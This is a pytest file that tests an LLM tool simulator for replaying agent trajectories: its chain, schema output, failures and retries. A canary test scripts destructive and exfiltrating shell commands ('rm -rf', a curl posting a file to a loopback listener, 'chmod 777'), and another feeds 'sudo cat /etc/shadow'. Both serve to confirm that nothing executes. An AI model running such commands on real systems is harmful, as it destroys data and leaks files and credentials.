"""The `llm` tool-simulator source: chain, structured output, failures, no execution, retries.

The candidate is tests/faulty_server.py on a loopback port (its own process, scripted tool
calls); the simulator is the SYNTHETIC world's `synthetic-simulator`, in process (synthetic://)
or behind a loopback recorder that keeps every request body it forwards to it.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import resources
from pathlib import Path
from typing import Any

import openai
import polars as pl
import pytest
from mlflow.tracking import MlflowClient

from tasks.config import ConfigError, Endpoint, ReplayCfg, read_conf_text
from tasks.fidelity import fidelity, summarise
from tasks.records import TRAJECTORY_SCHEMA, conversations_frame
from tasks.replay import baseline_trajectories, replay_sample
from tasks.simulator_llm import DEFAULT_OUTPUT_SCHEMA, MalformedAnswer, load_prompt, parse_answer
from tasks.synthetic.logs import TOOLS
from tasks.synthetic.server import chat_completion
from tasks.toolsim import LLMRequest, ToolResult, ToolSimulator
from tests.conftest import run_cli, synthetic_rows, write_jsonl
from tests.faulty_server import ServerProcess, conversation, free_port, start_server, turn_frames

ROOT = Path(__file__).resolve().parents[1]
LLM_CHAIN = ["recorded", "rules", "llm"]
SIMULATOR = Endpoint(model="synthetic-simulator")   # synthetic:// (in process)
FAST: dict[str, Any] = {"timeout_s": 2.0, "max_retries": 2, "backoff_s": 0.02, "backoff_max_s": 0.05}
RECORDING: list[dict[str, Any]] = [
    {"role": "user", "content": "look at the app"},
    {"role": "assistant", "content": "", "tool_calls": [{"id": "r1", "type": "function", "function": {
        "name": "read_file", "arguments": json.dumps({"path": "src/app.py"})}}]},
    {"role": "tool", "tool_call_id": "r1", "content": "print('recorded app')"},
    {"role": "assistant", "content": "It prints a greeting."},
]
WEATHER_OUT = {"type": "object", "properties": {"temp_c": {"type": "number"}, "summary": {"type": "string"},
                                                "windy": {"type": "boolean"}},
               "required": ["temp_c", "summary", "windy"], "additionalProperties": False}
TICKET_OUT = {"type": "object", "properties": {"id": {"type": "integer"},
                                               "state": {"type": "string", "enum": ["open", "closed"]}},
              "required": ["id", "state"], "additionalProperties": False}


def _tool(name: str, **extra: Any) -> dict[str, Any]:
    fn = {"name": name, "description": name, "parameters": {"type": "object", "properties": {}}}
    fn.update(extra.pop("function_extra", {}))
    return {"type": "function", "function": fn, **extra}


LINT = _tool("lint_code")
WEATHER = _tool("get_weather", function_extra={"output_schema": WEATHER_OUT})   # function.output_schema
TICKET = _tool("create_ticket", output_schema=TICKET_OUT)                      # top-level output_schema


class _Recorder(BaseHTTPRequestHandler):
    """Forwards chat requests to the synthetic world and keeps their bodies."""

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.server.bodies.append(body)  # type: ignore[attr-defined]
        status, data = chat_completion(body)
        raw = json.dumps(data).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def candidate() -> Iterator[ServerProcess]:
    srv = start_server()
    yield srv
    srv.stop()


@pytest.fixture()
def recorder() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """A loopback simulator endpoint (the synthetic one) that records request bodies."""
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    httpd.bodies = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/v1", httpd.bodies  # type: ignore[attr-defined]
    httpd.shutdown()
    httpd.server_close()


def replay(candidate: ServerProcess, convs: list[dict[str, Any]], model: str, chain: list[str],
           simulator: Endpoint | None = SIMULATOR, prompt: str = "simulator.yaml",
           **endpoint: Any) -> tuple[pl.DataFrame, dict[str, Any]]:
    sample, frame = turn_frames(convs)
    stats: dict[str, Any] = {}
    cfg = ReplayCfg(simulator_chain=chain, simulator_prompt=prompt)  # type: ignore[arg-type]
    traj, _ = asyncio.run(replay_sample(sample, frame, Endpoint(base_url=candidate.url, model=model, **endpoint),
                                        cfg, 0, stats=stats, simulator=simulator))
    assert traj["turn_id"].to_list() == sample["turn_id"].to_list()   # turns in == turns out
    return traj, stats


def turn(traj: pl.DataFrame, i: int = 0) -> tuple[dict[str, Any], list[str], list[dict[str, Any]]]:
    row = traj.row(i, named=True)
    tool_msgs = [m["content"] for m in json.loads(row["messages"]) if m["role"] == "tool"]
    return row, tool_msgs, json.loads(row["tool_results"])


def call(name: str, **args: Any) -> dict[str, Any]:
    return {"name": name, "arguments": args}


# --- the chain ------------------------------------------------------------------------------

SCRIPT = [call("read_file", path="src/app.py"),        # recorded
          call("shell", command="ls src"),              # rules (world seeded by the recording)
          call("read_file", path="docs/guide.md"),     # unseen file: rules would only guess
          call("shell", command="make build"),          # a program no emulator knows
          call("lint_code", path="src/app.py")]         # a tool with no emulator at all


def test_llm_answers_what_the_recording_and_the_rules_cannot(candidate: ServerProcess) -> None:
    conv = conversation("c1", script=SCRIPT, recording=RECORDING, tools=[*TOOLS, LINT])
    traj, stats = replay(candidate, [conv], "script#chain", LLM_CHAIN)
    row, tool_msgs, results = turn(traj)
    assert row["finish"] == "answered" and row["steps"] == len(SCRIPT) + 1
    assert [r["source"] for r in results] == ["recorded", "rules", "llm", "llm", "llm"]
    assert tool_msgs[:2] == ["print('recorded app')", "app.py"]
    assert "SYNTHETIC placeholder" in tool_msgs[2]                      # plausible, and labelled
    assert tool_msgs[3] == "make: Nothing to be done for 'all'."
    assert json.loads(tool_msgs[4])["tool"] == "lint_code"
    assert all(not r["error"] and "reason" not in r for r in results)
    assert results[2]["effects"] == ["read"]                            # classified on the way in
    assert json.loads(row["messages"])[-1]["content"] == f"done: {tool_msgs[4]}"  # the candidate saw it
    assert (stats["simulator_calls"], stats["simulator_failures"]) == (3, {})

    # Without llm in the chain the same calls are answered as before.
    traj, stats = replay(candidate, [conv], "script#chain", ["recorded", "rules"])
    _, tool_msgs, results = turn(traj)
    assert [r["source"] for r in results] == ["recorded", "rules", "rules", "rules", "error"]
    assert tool_msgs[2:4] == ["Error: file not found: docs/guide.md", ""]
    assert "simulator_calls" not in stats


def test_world_state_learns_from_llm_writes_not_from_imagined_reads() -> None:
    sim = ToolSimulator([], LLM_CHAIN)
    assert isinstance(sim.answer("lint_code", "{}"), LLMRequest)             # no emulator: for the llm
    assert sim.simulate("read_file", '{"path": "zz"}').content == "Error: file not found: zz"  # sync only
    write = LLMRequest("write_file", {"path": "a.md", "content": "A"}, ["write"])
    sim.learn(write, ToolResult("Wrote 1 bytes to a.md", "llm", ["write"]))
    assert sim.state.files["a.md"] == "A" and "a.md" in sim.state.changed
    assert sim.simulate("read_file", '{"path": "a.md"}').content == "A"     # the rules read it back
    sim.learn(LLMRequest("write_file", {"path": "x.md", "content": "X"}, ["write"]),
              ToolResult("Error: disk full", "error", ["write"], True))
    assert "x.md" not in sim.state.files                                    # an error teaches nothing
    sim.learn(LLMRequest("shell", {"command": "pytest -q"}, ["read"]), ToolResult("1 failed", "llm", ["read"]))
    assert sim.state.last_test_output == "1 failed"
    read = sim.answer("read_file", '{"path": "new.md"}')
    assert isinstance(read, LLMRequest)
    sim.learn(read, ToolResult("imagined text", "llm", ["read"]))
    assert "new.md" not in sim.state.files       # an edit of it is not rejected for imagined text


def test_the_simulator_prompt_carries_schema_call_and_world_state(
        candidate: ServerProcess, recorder: tuple[str, list[dict[str, Any]]]) -> None:
    url, bodies = recorder
    script = [call("write_file", path="notes.txt", content="hello from the candidate"),
              call("read_file", path="notes.txt")]
    traj, _ = replay(candidate, [conversation("c1", script=script)], "script#state", ["recorded", "llm"],
                     simulator=Endpoint(base_url=url, model="synthetic-simulator"))
    _, tool_msgs, results = turn(traj)
    assert [r["source"] for r in results] == ["llm", "llm"]
    assert tool_msgs[0] == "Wrote 24 bytes to notes.txt"
    system, user = bodies[1]["messages"]
    assert system["role"] == "system" and "tool simulator" in system["content"]
    assert "## Tool\nread_file" in user["content"]
    assert '"path": "notes.txt"' in user["content"]                          # the call
    assert "notes.txt (changed)" in user["content"]                          # the world state...
    assert "--- notes.txt ---\nhello from the candidate" in user["content"]  # ...learnt from the write
    assert "[assistant → write_file]" in user["content"]                     # the trajectory
    assert '"name": "read_file"' in user["content"]                          # the tool schema


# --- structured output ------------------------------------------------------------------------

def test_declared_output_schema_is_requested_and_honoured(
        candidate: ServerProcess, recorder: tuple[str, list[dict[str, Any]]]) -> None:
    url, bodies = recorder
    script = [call("get_weather", city="Oslo"), call("create_ticket", title="flaky test"),
              call("read_file", path="docs/unseen.md")]
    conv = conversation("c1", script=script, tools=[*TOOLS, WEATHER, TICKET])
    traj, _ = replay(candidate, [conv], "script#schema", LLM_CHAIN,
                     simulator=Endpoint(base_url=url, model="synthetic-simulator"))
    _, tool_msgs, results = turn(traj)
    assert [r["source"] for r in results] == ["llm", "llm", "llm"]
    sent = [b["response_format"] for b in bodies]
    assert sent == [{"type": "json_schema", "json_schema": {"name": "tool_result", "schema": s, "strict": True}}
                    for s in (WEATHER_OUT, TICKET_OUT, DEFAULT_OUTPUT_SCHEMA)]
    weather, ticket = json.loads(tool_msgs[0]), json.loads(tool_msgs[1])
    assert set(weather) == {"temp_c", "summary", "windy"}
    assert isinstance(weather["temp_c"], int | float) and isinstance(weather["windy"], bool)
    assert isinstance(ticket["id"], int) and ticket["state"] in ("open", "closed")
    assert "SYNTHETIC" in tool_msgs[2]


def test_json_object_style_for_llama_cpp(candidate: ServerProcess, recorder: tuple[str, list[dict[str, Any]]],
                                         tmp_path: Path) -> None:
    url, bodies = recorder
    prompt = tmp_path / "sim.yaml"
    prompt.write_text(read_conf_text("simulator.yaml").replace("response_format: json_schema",
                                                               "response_format: json_object"))
    conv = conversation("c1", script=[call("get_weather", city="Oslo")], tools=[WEATHER])
    traj, _ = replay(candidate, [conv], "script#jsonobj", LLM_CHAIN, prompt=str(prompt),
                     simulator=Endpoint(base_url=url, model="synthetic-simulator"))
    _, tool_msgs, results = turn(traj)
    assert bodies[0]["response_format"] == {"type": "json_object", "schema": WEATHER_OUT}
    assert results[0]["source"] == "llm" and set(json.loads(tool_msgs[0])) == {"temp_c", "summary", "windy"}


def test_served_synthetic_simulator_honours_response_format(synthetic_server: str) -> None:
    client = openai.OpenAI(base_url=synthetic_server, api_key="unused", max_retries=0)
    user = "## Tool\nshell\n\n## Call arguments (JSON)\n" + json.dumps({"command": "sudo cat /etc/shadow"})
    rf = {"type": "json_schema", "json_schema": {"name": "tool_result", "schema": DEFAULT_OUTPUT_SCHEMA, "strict": True}}
    out = client.chat.completions.create(model="synthetic-simulator", response_format=rf,  # type: ignore[call-overload]
                                         messages=[{"role": "user", "content": user}])
    assert out.system_fingerprint == "synthetic-world"
    answer = json.loads(out.choices[0].message.content or "")
    assert answer["is_error"] is True and "password" in answer["content"]   # no secret is invented
    custom = client.chat.completions.create(model="synthetic-simulator", messages=[{"role": "user", "content": user}],
                                            response_format={"type": "json_object", "schema": TICKET_OUT})  # type: ignore[call-overload]
    assert set(json.loads(custom.choices[0].message.content or "")) == {"id", "state"}
    with pytest.raises(openai.BadRequestError, match="response_format"):
        client.chat.completions.create(model="synthetic-simulator", messages=[{"role": "user", "content": user}],
                                       response_format={"type": "grammar"})  # type: ignore[call-overload,typeddict-item]


def test_parse_answer_checks_the_top_level_shape() -> None:
    assert parse_answer('{"content": "ok", "is_error": false}', DEFAULT_OUTPUT_SCHEMA, False) == ("ok", False)
    assert parse_answer('```json\n{"content": "x", "is_error": true}\n```', DEFAULT_OUTPUT_SCHEMA, False) == ("x", True)
    assert json.loads(parse_answer('{"temp_c": 3, "summary": "s", "windy": false}', WEATHER_OUT, True)[0])["temp_c"] == 3
    for text, schema in [("done", DEFAULT_OUTPUT_SCHEMA),                           # not JSON
                         ('{"content": 1, "is_error": false}', DEFAULT_OUTPUT_SCHEMA),  # wrong type
                         ('{"content": "x"}', DEFAULT_OUTPUT_SCHEMA),                 # missing key
                         ('["x"]', DEFAULT_OUTPUT_SCHEMA),                            # not an object
                         ('{"temp_c": true, "summary": "s", "windy": false}', WEATHER_OUT)]:  # bool is no number
        with pytest.raises(MalformedAnswer):
            parse_answer(text, schema, schema is WEATHER_OUT)


def test_prompt_ships_with_the_package_and_is_checked(tmp_path: Path) -> None:
    assert resources.files("conf").joinpath("simulator.yaml").is_file()
    prompt = load_prompt("simulator.yaml")
    assert prompt.response_format == "json_schema" and prompt.limits.trajectory_chars > 0
    bad = tmp_path / "bad.yaml"
    for text, match in [("system: s\nuser: '$tool_name $arguments $oops'\n", "unknown placeholders"),
                        ("system: s\nuser: '$tool_name $arguments'\nresponse_format: grammar\n", "response_format"),
                        ("system: s\nuser: 'no placeholders'\n", "must use"),
                        ("system: s\nuser: '$tool_name $arguments'\nlimits: {pages: 3}\n", "limits")]:
        bad.write_text(text)
        with pytest.raises(ConfigError, match=match):
            load_prompt(str(bad))


# --- failures ---------------------------------------------------------------------------------

def test_simulator_failures_are_error_results_and_the_turn_goes_on(candidate: ServerProcess) -> None:
    script = [call("read_file", path="docs/unseen.md"), call("shell", command="echo still here")]
    down = Endpoint(base_url=f"http://127.0.0.1:{free_port()}/v1", model="synthetic-simulator", max_retries=0)
    cases = {  # simulator endpoint -> reason kind
        "simulator_unavailable": down,
        "simulator_malformed": Endpoint(base_url=candidate.url, model="ok#sim-malformed", **FAST),  # answers "done"
    }
    for kind, endpoint in cases.items():
        traj, stats = replay(candidate, [conversation("c1", script=script)], f"script#{kind}", LLM_CHAIN,
                             simulator=endpoint)
        row, tool_msgs, results = turn(traj)
        assert row["finish"] == "answered" and row["error"] is None, kind     # the turn went on
        assert [(r["source"], r["error"]) for r in results] == [("error", True), ("rules", False)]
        assert results[0]["reason"].startswith(f"{kind}: "), results[0]
        assert tool_msgs == [f"Error: tool 'read_file' returned no result ({kind})", "still here"]
        assert stats["simulator_failures"] == {kind: 1}
    assert results[0]["reason"] == "simulator_malformed: not JSON: 'done'"


def test_simulator_retries_are_counted_apart_from_the_turn(candidate: ServerProcess) -> None:
    script = [call("read_file", path="docs/unseen.md")]
    sim = Endpoint(base_url=candidate.url, model="fault-500-then-ok#sim-retry", **FAST)
    traj, stats = replay(candidate, [conversation("c1", script=script)], "script#sim-retry", LLM_CHAIN,
                         simulator=sim)
    row, _, results = turn(traj)
    assert stats["simulator_retries"] == 1 and candidate.requests("fault-500-then-ok#sim-retry") == 2
    assert row["retries"] == 0                 # the column counts the candidate's own retries
    assert results[0]["reason"].startswith("simulator_malformed")   # the healed answer was "done"


def test_llm_in_the_chain_without_an_endpoint_is_an_error_for_a_real_candidate(candidate: ServerProcess) -> None:
    traj, _ = replay(candidate, [conversation("c1", script=[call("lint_code")], tools=[LINT])],
                     "script#unconfigured", LLM_CHAIN, simulator=None)
    row, _, results = turn(traj)
    assert row["finish"] == "answered" and results[0]["source"] == "error"
    assert results[0]["reason"].startswith("simulator_unconfigured")


# --- nothing executes ---------------------------------------------------------------------

_WATCH: dict[str, Any] = {"active": False, "root": "", "port": -1, "seen": []}
_SPAWN = frozenset({"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "pty.spawn"})
_TOUCH = frozenset({"os.remove", "os.rmdir", "os.rename", "os.replace", "shutil.rmtree", "os.chmod", "os.mkdir",
                    "os.truncate"})
_HOOK: list[bool] = []


def _audit(event: str, args: tuple[Any, ...]) -> None:
    """Tripwire: any process spawn, and any write, delete or connect near the canary's targets."""
    w = _WATCH
    if not w["active"]:
        return
    near = bool(args) and str(args[0]).startswith(w["root"])
    if event in _SPAWN or (event in _TOUCH and near):
        w["seen"].append(event)
    elif event == "open" and near:
        mode, flags = args[1], args[2]
        writes = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
        if (isinstance(mode, str) and any(c in mode for c in "wax+")) or (mode is None and flags & writes):
            w["seen"].append(event)
    elif event == "socket.connect" and isinstance(args[1], tuple) and args[1][1:2] == (w["port"],):
        w["seen"].append(event)


def test_canary_the_llm_source_executes_nothing(candidate: ServerProcess, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious")
    pwned = tmp_path / "pwned.txt"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    script = [call("shell", command=f"rm -rf {victim} /nonexistent-depsim-canary"),
              call("write_file", path=str(pwned), content="owned"),
              call("shell", command=f"curl -s -d @{victim}/keep.txt http://127.0.0.1:{port}/x"),
              call("shell", command=f"{sys.executable} -c \"import os; os.remove('{victim}/keep.txt')\""),
              call("shell", command=f"chmod 777 {victim}")]
    if not _HOOK:
        sys.addaudithook(_audit)
        _HOOK.append(True)
    _WATCH.update(active=True, root=str(tmp_path), port=port, seen=[])
    (tmp_path / "control.txt").write_text("seen")   # control: the tripwire does see a write
    assert _WATCH["seen"] == ["open"]
    _WATCH["seen"] = []
    try:   # no rules in the chain: every call reaches the llm source
        traj, stats = replay(candidate, [conversation("canary", script=script)], "script#canary", ["recorded", "llm"])
    finally:
        _WATCH["active"] = False
    try:
        row, _, results = turn(traj)
        assert row["finish"] == "answered" and [r["source"] for r in results] == ["llm"] * len(script)
        assert stats["simulator_calls"] == len(script)
        assert "destructive" in results[0]["effects"] and "network_egress" in results[2]["effects"]
        assert "privilege_change" in results[4]["effects"]
        assert _WATCH["seen"] == []
        assert (victim / "keep.txt").read_text() == "precious" and not pwned.exists()
        assert victim.stat().st_mode & 0o777 != 0o777
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


# --- the retries column -------------------------------------------------------------------

def test_retries_column_counts_each_turns_retries(candidate: ServerProcess) -> None:
    convs = [conversation("c429", behaviour="fault-429-then-ok"), conversation("c500", behaviour="fault-500"),
             conversation("cok", behaviour="ok")]
    traj, stats = replay(candidate, convs, "ok#retrycol", ["recorded", "rules"], **FAST)
    assert traj.schema == pl.Schema(TRAJECTORY_SCHEMA)
    assert traj["retries"].to_list() == [1, 2, 0]          # a 429 healed once; a 500 retried to the limit
    assert traj["finish"].to_list() == ["answered", "error", "answered"]
    assert traj["retries"].sum() == stats["retries"] == stats["calls"]["retries"].sum()
    sample, frame = turn_frames(convs)
    frame = frame.with_columns(model=pl.lit("prod"))
    base = baseline_trajectories(sample.with_columns(end_msg_index=pl.lit(99)), frame)
    assert base.schema == pl.Schema(TRAJECTORY_SCHEMA) and base["retries"].to_list() == [0, 0, 0]


# --- fidelity -------------------------------------------------------------------------------

def test_fidelity_uses_the_llm_source_when_the_chain_has_it() -> None:
    conv = {"conversation_id": "c", "model": "m", "created_at": "2026-01-01T00:00:00Z",
            "tools": [_tool("weather"), *TOOLS], "messages": [
                {"role": "user", "content": "hi"},
                {"role": "assistant", "content": "", "tool_calls": [
                    {"id": "1", "type": "function", "function": {"name": "weather", "arguments": "{}"}}]},
                {"role": "tool", "tool_call_id": "1", "content": "sunny"},
                {"role": "assistant", "content": "", "tool_calls": [
                    {"id": "2", "type": "function", "function": {"name": "read_file", "arguments": '{"path": "a"}'}}]},
                {"role": "tool", "tool_call_id": "2", "content": "A"},
                {"role": "assistant", "content": "done"}]}
    frame = conversations_frame([conv])
    without = fidelity(frame, ["recorded", "rules"])
    with_llm = fidelity(frame, LLM_CHAIN, simulator=SIMULATOR, batch=1)
    assert without["source"].to_list() == ["error", "rules"]
    assert with_llm["source"].to_list() == ["llm", "llm"]   # neither call has another recording
    assert set(summarise(with_llm)["weather"]) == {"calls", "exact", "structural", "different", "sources"}
    assert fidelity(frame, LLM_CHAIN)["source"].to_list() == ["error", "error"]   # no endpoint given


# --- the whole flow ---------------------------------------------------------------------------

@pytest.mark.e2e
def test_run_with_the_llm_source_logs_its_share(tmp_path: Path) -> None:
    data = write_jsonl(tmp_path / "logs.jsonl", synthetic_rows(60, seed=4))
    conf = tmp_path / "llm.yaml"
    conf.write_text("replay:\n  simulator_chain: [recorded, rules, llm]\n")
    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
    proc = run_cli(["run", "--data", str(data), "--n", "40", "--config", str(conf), "--store",
                    str(tmp_path / "store"), "--tracking-uri", uri, "--json"], cwd=tmp_path)
    assert proc.returncode in (0, 1, 3), proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    metrics = MlflowClient(tracking_uri=uri).get_run(out["run_id"]).data.metrics
    assert metrics["tools.source.llm"] > 0 and metrics["replay.finish.answered"] == 40
    traj = pl.read_parquet(Path(out["store"]) / "trajectories.parquet")
    assert traj.schema == pl.Schema(TRAJECTORY_SCHEMA) and traj.height == 40
    llm = [r for t in traj["tool_results"] for r in json.loads(t) if r["source"] == "llm"]
    assert len(llm) == metrics["tools.source.llm"]
    assert metrics["replay.simulator_calls"] + metrics["replay.simulator_cache_hits"] == len(llm)
    assert f"llm {len(llm)}" in Path(out["report"]).read_text()   # the report's source mix
